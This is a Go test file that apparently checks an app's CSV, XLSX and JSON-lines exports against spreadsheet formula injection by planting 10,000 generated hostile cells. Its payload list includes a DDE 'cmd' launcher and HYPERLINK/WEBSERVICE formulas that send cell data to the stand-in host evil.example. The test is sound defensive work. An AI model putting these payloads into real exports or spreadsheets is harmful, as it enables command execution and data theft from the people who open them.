package export_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"involt/internal/core/card"
	"involt/internal/core/charge"
	"involt/internal/core/group"
	"involt/internal/core/id"
	"involt/internal/core/journal"
	"involt/internal/core/person"
	"involt/internal/core/workspace"
	"involt/internal/flow/browse"
	"involt/internal/flow/browse/export"
	"involt/internal/kit/db"
	"involt/internal/kit/table"
	"involt/internal/testkit/sheet"
)

// TestThreat/R42: 10,000 cells that a spreadsheet would run go out by each list
// and format. None begins a formula in CSV or XLSX; JSON lines carry each as it is.
// That no export leaves by another writer, internal/archtest sees to.
func TestThreat(t *testing.T) {
	t.Run("R42_formula_injection", func(t *testing.T) { towns(t, formulas) })
}

// starts reports whether a spreadsheet would run a cell: what it looks at comes
// behind marks and blanks. It is no part of the writer.
func starts(cell string) bool {
	cell = strings.TrimLeft(cell, "\ufeff\u200b\u00a0\u3000 \x00\v\f")
	return cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") || strings.HasPrefix(cell, "\uff1d") || strings.HasPrefix(cell, "\uff0b") || strings.HasPrefix(cell, "\uff0d") || strings.HasPrefix(cell, "\uff20")
}

// evil makes up a cell that somebody hopes will run.
func evil(r *rand.Rand) string {
	front := []string{"", "", "\ufeff", " ", "\u00a0", "\u200b", "  \ufeff", "\u3000", "\t", "\v"}
	trigger := []string{"=", "+", "-", "@", "\t=", "\r=", "\n+", "＝", "＠", "=", "@"}
	rest := []string{"cmd|' /C calc'!A0", `HYPERLINK("https://evil.example?"&A1,"x")`, "SUM(1+1)*cmd", "1+1", "WEBSERVICE(\"https://evil.example\")", "2", "ß\"quoted\",;|", "a\r\nb"}
	return front[r.IntN(len(front))] + trigger[r.IntN(len(trigger))] + rest[r.IntN(len(rest))] + fmt.Sprint(r.IntN(1_000_000))
}

func formulas(t *testing.T, a *town) {
	r := rand.New(rand.NewPCG(42, 42))
	planted := map[string]bool{}
	cell := func() string {
		v := evil(r)
		planted[v] = true
		return v
	}
	const people = 1500
	a.update(func(tx *db.Tx) error {
		var list []person.Person
		for range people {
			list = append(list, person.Person{
				Workspace: a.ws, ID: id.New[id.Person](), FirstName: cell(), LastName: cell(), Phone: cell(), ExternalID: cell() + id.New[string](), CostCenter: cell(), Info1: cell(), Info2: cell(),
				Status: person.Active, Created: tx.Now, StatusAt: tx.Now,
			})
		}
		if _, err := person.Load(tx, func(yield func(*person.Person) bool) {
			for i := range list {
				if !yield(&list[i]) {
					return
				}
			}
		}); err != nil {
			return err
		}
		g := group.Group{Workspace: a.ws, Name: cell()}
		if err := group.Insert(tx, &g); err != nil {
			return err
		}
		var cards []card.Card
		var sessions []charge.Charge
		for i, p := range list {
			if _, err := group.Add(tx, a.ws, g.ID, p.ID); err != nil {
				return err
			}
			c := card.Card{Workspace: a.ws, ID: id.New[id.Card](), UID: fmt.Sprintf("04%012X", i), Kind: card.RFID, Typed: cell(), Printed: cell(), State: card.Active, Person: p.ID}
			cards = append(cards, c)
			s := a.session(i, 1+i/60, nil)
			s.Person, s.StopReason = p.ID, cell()
			sessions = append(sessions, s)
			if i%3 == 0 {
				if err := journal.Record(tx, a.staff, "person.updated", journal.About("person", p.ID), cell()); err != nil {
					return err
				}
			}
			if _, err := tx.Exec(`INSERT INTO vehicle (workspace, id, person, plate, plate_key, country, make, model, battery_wh, mac, version, created_at) VALUES (?, ?, ?, ?, ?, '', '', '', 0, '', 1, 0)`,
				a.ws, id.New[id.Vehicle](), p.ID, cell(), fmt.Sprint("P", i)); err != nil {
				return err
			}
		}
		if _, err := card.Load(tx, func(yield func(*card.Card) bool) {
			for i := range cards {
				if !yield(&cards[i]) {
					return
				}
			}
		}); err != nil {
			return err
		}
		return charge.Load(tx, sessions)
	})
	if len(planted) < 10_000 {
		t.Fatalf("only %d cells were planted", len(planted))
	}
	a.s.Tell = func(_ workspace.Workspace, e browse.Activity) (string, string) { return "=" + e.What, "@" + e.What }
	total := map[table.Format]int{}
	for _, what := range []export.What{export.Users, export.Sessions, export.Cards, export.Activity} {
		for _, o := range outputs {
			var b bytes.Buffer
			if _, err := a.s.Write(t.Context(), a.staff, &export.Request{What: what}, o, &b); err != nil {
				t.Fatal(err)
			}
			for _, row := range sheet.Read(t, b.Bytes()) {
				for _, v := range row {
					switch {
					case o.Format != table.Lines && starts(v):
						t.Fatalf("%s as %s: a cell begins %q", what, o.Format, v)
					case strings.HasPrefix(v, "'") || o.Format == table.Lines && starts(v):
						total[o.Format]++
					}
				}
			}
			if o.Format == table.Lines && what == export.Users {
				whole(t, b.Bytes(), planted)
			}
		}
	}
	for f, n := range total {
		if n < 10_000 {
			t.Errorf("as %s only %d cells that somebody planted were seen", f, n)
		}
	}
}

// whole checks that JSON lines bring back what was planted, byte for byte.
func whole(t *testing.T, file []byte, planted map[string]bool) {
	t.Helper()
	n := 0
	for line := range bytes.Lines(file) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"first_name", "last_name", "phone", "cost_center", "info_1", "info_2"} {
			v, _ := m[name].(string)
			if utf8.ValidString(v) && planted[v] {
				n++
			} else if starts(v) && !strings.HasPrefix(v, "+49") && v != "=7" {
				t.Fatalf("%s came back as %q", name, v)
			}
		}
	}
	if n < 6*1500 {
		t.Errorf("only %d cells came back as they were", n)
	}
}
